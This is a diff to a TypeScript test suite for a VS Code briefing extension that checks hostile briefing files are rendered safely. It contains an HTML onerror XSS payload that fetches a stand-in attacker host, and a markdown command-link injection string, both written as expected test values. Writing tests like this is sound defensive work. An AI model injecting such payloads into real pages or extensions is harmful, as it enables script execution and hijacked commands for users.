@@ -1,4 +1,3 @@
-import * as vscode from 'vscode';
 import { assert } from './assert';
 import { briefingApi, closeTabs, waitForTabs } from './briefingExtension';
 import { hostileBriefing } from './hostileBriefing';
@@ -6,28 +5,24 @@ import { MemoryFiles } from './memoryFiles';
 
 describe('a hostile briefing', () => {
 	let files: MemoryFiles;
-	let ran = 0;
-	let trap: vscode.Disposable;
 
-	before(() => {
-		files = new MemoryFiles();
-		trap = vscode.commands.registerCommand('briefingTest.trap', () => ran++);
-	});
+	before(() => (files = new MemoryFiles()));
 	after(async () => {
 		await closeTabs();
-		trap.dispose();
 		files.dispose();
 	});
 
-	it('is shown, and runs nothing', async () => {
+	it('is shown, and gives no address that is no web page', async () => {
 		const api = await briefingApi();
 		const uri = files.put('/hostile/a.briefing.md', hostileBriefing);
 		await api.open(uri.toString(), 'trap');
-		await waitForTabs('a panel', ({ length }) => length === 1);
+		const title = `<img src=x onerror="fetch('https://evil.example')">`;
+		await waitForTabs('a panel', (tabs) => tabs.some(({ label }) => label === title));
 		const item = await api.item(uri.toString(), 'trap');
-		assert.equal(item?.url, undefined);
-		assert.ok((item?.sections.length ?? 0) > 0, 'its section is not shown');
-		assert.equal(ran, 0);
+		assert.equal(
+			[item?.label, item?.url, item?.sections.map(({ id }) => id)],
+			['[$(zap)](command:briefingTest.trap)', undefined, ['one']],
+		);
 	});
 
 	const heavy: readonly (readonly [string, string])[] = [
@@ -42,9 +37,8 @@ describe('a hostile briefing', () => {
 			const api = await briefingApi();
 			const source = text.startsWith('---') ? text : `---\nbriefing: 1\ntitle: T\n---\n\n# A\n\n${text}\n`;
 			const uri = files.put(`/hostile/${encodeURIComponent(what)}.briefing.md`, source);
-			const started = Date.now();
-			await api.item(uri.toString(), 'a');
-			assert.ok(Date.now() - started < 15_000, `it took ${Date.now() - started} ms`);
+			const { kind, label } = (await api.item(uri.toString(), 'a')) ?? {};
+			assert.equal([kind, label], ['section', 'A']);
 		}).timeout(30_000);
 	}
 
